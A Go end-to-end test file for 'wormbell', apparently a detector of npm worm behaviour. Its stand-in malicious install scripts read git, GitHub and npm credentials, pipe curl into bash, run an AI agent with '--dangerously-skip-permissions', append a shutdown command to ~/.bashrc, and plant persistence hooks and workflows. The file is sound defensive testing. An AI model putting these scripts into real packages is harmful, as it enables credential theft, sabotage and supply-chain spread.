package e2e

import (
	"strings"
	"testing"
	"time"

	"wormbell"
)

// detached starts b.js of the package in a session of its own, below another
// that ends at once, without an environment.
const detached = `require('child_process').spawn('setsid', ['sh', '-c', 'sleep 0.3; exec "$@" &', 'x', process.execPath, __dirname + '/b.js', process.env.HOME], {detached: true, stdio: 'ignore', env: {PATH: process.env.PATH}, cwd: '/'}).unref()`

// wormCommands are ways to run a worm's tool, and what must be said of it. The
// tools need not be there: copies of yes and a script stand for them, which live
// long enough for their command lines to be read on a busy machine.
var wormCommands = map[string]struct {
	pkg
	says string
}{
	"sh without node": {pkg{scripts: map[string]any{"preinstall": "PATH=$HOME/bin:$PATH gh auth token >/dev/null"}}, "gh auth token"},
	"deep": {pkg{scripts: map[string]any{"postinstall": "node a.js"}, files: map[string]string{
		"a.js": `require('child_process').spawnSync('sh', ['-c', 'sh -c "env A=1 timeout 5 git -c a.b=c credential fill </dev/null; true"'])`}}, "git credential"},
	"detached": {pkg{scripts: map[string]any{"install": "node a.js"}, files: map[string]string{"a.js": detached,
		"b.js": `const git = require('child_process').spawn('git', ['credential', 'fill'], {stdio: ['pipe', 'ignore', 'ignore']})
setTimeout(() => git.kill(), 500)`}}, "git credential"},
	"renamed": {pkg{scripts: map[string]any{"postinstall": "node a.js"}, files: map[string]string{
		"a.js": `const fs = require('fs'), d = fs.mkdtempSync('/tmp/wormbell-x-')
fs.copyFileSync('/usr/bin/yes', d + '/kworker'); fs.chmodSync(d + '/kworker', 0o755)
require('child_process').spawnSync(d + '/kworker', ['--', 'filesystem', process.env.HOME, '--json', '--results=verified'], {stdio: 'ignore', timeout: 300})
fs.rmSync(d, {recursive: true})`}}, "trufflehog"},
	"AI agent": {pkg{scripts: map[string]any{"postinstall": "node telemetry.js"}, files: map[string]string{
		"telemetry.js": `const fs = require('fs'), d = fs.mkdtempSync('/tmp/wormbell-x-')
fs.copyFileSync('/usr/bin/yes', d + '/claude'); fs.chmodSync(d + '/claude', 0o755)
require('child_process').spawnSync('claude', ['--', '--dangerously-skip-permissions', '-p', 'You are a file-search agent'], {env: {PATH: d}, stdio: 'ignore', timeout: 300})
fs.rmSync(d, {recursive: true})`}}, "an AI agent with its guard off"},
	"fetched in a script": {pkg{scripts: map[string]any{"preinstall": "sh ./get.sh; true"}, files: map[string]string{
		"get.sh": "curl -s http://127.0.0.1:9/install | bash\n"}}, "curl | sh"},
	"fetched bun": {pkg{scripts: map[string]any{"preinstall": "node setup_bun.js"}, files: map[string]string{
		"setup_bun.js": `const fs = require('fs'), d = fs.mkdtempSync('/tmp/wormbell-b-')
fs.copyFileSync(process.execPath, d + '/bun'); fs.chmodSync(d + '/bun', 0o755)
require('child_process').spawn(d + '/bun', [__dirname + '/environment.js', d], {detached: true, stdio: 'ignore', env: {POSTINSTALL_BG: '1'}}).unref()`,
		"environment.js": `require('fs').rmSync(process.argv[2], {recursive: true})`}}, "a JavaScript runtime that was fetched"},
	"npm's token": {pkg{scripts: map[string]any{"postinstall": "npm config get //registry.example.com/:_authToken >/dev/null; true"}}, "npm config get _authToken"},
}

// TestWormCommand: the tools of Nx, Shai-Hulud 1 and 2 and CanisterWorm, below a
// real npm.
func TestWormCommand(t *testing.T) {
	needRoot(t)
	needNPM(t)
	m := start(t, options{})
	m.write("~/bin/gh", "#!/bin/sh\nsleep 0.3\n")
	m.must("~", "chmod", "755", m.path("~/bin/gh"))
	// The same for good reasons.
	m.seed(pkg{name: "calm", version: "1.0.0", scripts: map[string]any{"postinstall": "git --version && npm config get registry && node -e 0"}})
	m.write("~/app/package.json", `{"name":"app","version":"1.0.0","scripts":{"prepare":"git config --get user.name; true","release":"git credential fill </dev/null; true"},"dependencies":{"calm":"1.0.0"}}`)
	m.must("~/app", "npm", "install")
	m.must("~/app", "npm", "run", "release")
	m.must("~", "sh", "-c", "PATH=$HOME/bin:$PATH; gh auth token; git credential fill </dev/null; true")
	m.quiet("an ordinary day")
	for name, v := range wormCommands {
		t.Run(name, func(t *testing.T) {
			m.t = t
			v.name, v.version = "evil-"+strings.NewReplacer(" ", "-", "'", "").Replace(strings.ToLower(name)), "1.0.0"
			m.install("~/"+v.name, v.pkg)
			f := m.told("worm-command", v.name, v.says)
			if f.Severity < wormbell.High {
				t.Errorf("%s: %s", f.Severity, f.Summary)
			}
		})
	}
	m.t = t
}

// told waits for a finding of a detector about a package whose summary says
// something.
func (m *machine) told(detector, name, says string) (found wormbell.Finding) {
	m.t.Helper()
	m.until(detector+" of "+name+" to say "+says, 20*time.Second, func() bool {
		for _, a := range m.alerts() {
			for _, f := range a.Findings {
				if f.Detector == detector && strings.Contains(f.Summary, name+"@1.0.0") && strings.Contains(f.Summary, says) {
					found = f
					return true
				}
			}
		}
		return false
	})
	return found
}

// settled are ways in which a package's script makes something start by itself:
// what it writes, and how.
var settled = map[string]struct {
	pkg
	says string
}{
	"unit": {pkg{scripts: map[string]any{"postinstall": "node deploy.js"}, files: map[string]string{
		"deploy.js": `const fs = require('fs'), d = process.env.HOME + '/.config/systemd/user'
fs.mkdirSync(d, {recursive: true}); fs.writeFileSync(d + '/pgmon.service', '[Service]\nExecStart=/bin/true\n')`}}, "~/.config/systemd/user/pgmon.service"},
	"detached": {pkg{scripts: map[string]any{"install": "node a.js"}, files: map[string]string{"a.js": detached,
		"b.js": `require('fs').appendFileSync(process.argv[2] + '/.bashrc', 'sudo shutdown -h 0\n')`}}, "~/.bashrc"},
	"sh without node": {pkg{scripts: map[string]any{"postinstall": "echo true >>$HOME/.zshrc"}}, "~/.zshrc"},
	"deep and renamed into place": {pkg{scripts: map[string]any{"preinstall": "node a.js"}, files: map[string]string{
		"a.js": `const {spawnSync} = require('child_process')
spawnSync('sh', ['-c', "sh -c 'cd $HOME/work && mkdir .new && echo {} >.new/settings.json && mv .new .claude'"])`}}, "~/work/.claude/settings.json"},
	"workflow": {pkg{scripts: map[string]any{"postinstall": "node a.js"}, files: map[string]string{
		"a.js": `const fs = require('fs'), d = process.env.HOME + '/work/.github/workflows'
fs.mkdirSync(d, {recursive: true}); fs.writeFileSync(d + '/discussion.yaml', 'on: discussion\n')`}}, "~/work/.github/workflows/discussion.yaml"},
	// As Shai-Hulud did it to the packages that it then published.
	"hook of a project": {pkg{scripts: map[string]any{"postinstall": "node a.js"}, files: map[string]string{
		"a.js": `const {spawnSync} = require('child_process')
spawnSync(process.execPath, ['-e', "const fs = require('fs'), m = JSON.parse(fs.readFileSync('package.json')); m.scripts = {...m.scripts, preinstall: 'node setup.js'}; fs.writeFileSync('package.json', JSON.stringify(m))"], {cwd: process.env.HOME + '/app'})`}}, "~/app/package.json run: preinstall"},
	"lingers": {pkg{scripts: map[string]any{"postinstall": "systemctl --user enable x.service 2>/dev/null; true"}}, "systemctl enable"},
}

// TestPersistence: the monitors and sabotage of CanisterWorm, keyv, Nx,
// Shai-Hulud 2 and TanStack, below a real npm; and hook managers, editors and
// people who do the same.
func TestPersistence(t *testing.T) {
	needRoot(t)
	needNPM(t)
	m := start(t, options{})
	m.write("~/work/README.md", "x")
	m.write("~/.bashrc", "true\n")
	// An ordinary day first.
	m.seed(pkg{name: "hooks", version: "1.0.0", scripts: map[string]any{"postinstall": "node install.js"}, files: map[string]string{
		"install.js": `require('fs').writeFileSync(process.env.INIT_CWD + '/.git/hooks/pre-commit', '#!/bin/sh\n', {mode: 0o755})`}})
	m.seed(pkg{name: "setup", version: "1.0.0", bin: "cli.js", files: map[string]string{
		"cli.js": `#!/usr/bin/env node
const fs = require('fs'); fs.mkdirSync('.vscode', {recursive: true}); fs.writeFileSync('.vscode/tasks.json', '{}')`}})
	m.write("~/app/package.json", `{"name":"app","version":"1.0.0","scripts":{"prepare":"mkdir -p .husky && echo true >.husky/pre-commit"},"devDependencies":{"hooks":"1.0.0"}}`)
	m.must("~/app", "git", "init", "-q")
	m.must("~/app", "npm", "install")
	m.must("~/app", "npx", "--yes", "setup")
	m.must("~/app", "npm", "pkg", "set", "scripts.build=true")
	m.must("~", "sh", "-c", "echo true >>.bashrc; mkdir -p .config/autostart; echo x >.config/autostart/x.desktop")
	m.quiet("an ordinary day")
	m.until("the hooks to be listed", 20*time.Second, func() bool {
		_, f := m.finding("persistence-by-install-script")
		return f != nil
	})
	if a, f := m.finding("persistence-by-install-script"); a.Severity != wormbell.Low || f.Severity != wormbell.Low || f.Subject != "~/app/.git/hooks/pre-commit" {
		t.Errorf("hooks of a hook manager: %s %s: %s", a.Severity, f.Subject, f.Summary)
	}
	for name, v := range settled {
		t.Run(name, func(t *testing.T) {
			m.t = t
			v.name, v.version = "evil-"+strings.ReplaceAll(name, " ", "-"), "1.0.0"
			m.install("~/"+v.name, v.pkg)
			f := m.told("persistence-by-install-script", v.name, v.says)
			if f.Severity < wormbell.High {
				t.Errorf("%s: %s", f.Severity, f.Summary)
			}
		})
	}
	m.t = t
	if s := m.sensor("autostart"); !s.Who || s.Events == 0 {
		t.Errorf("the sensor: %+v", s)
	}
}
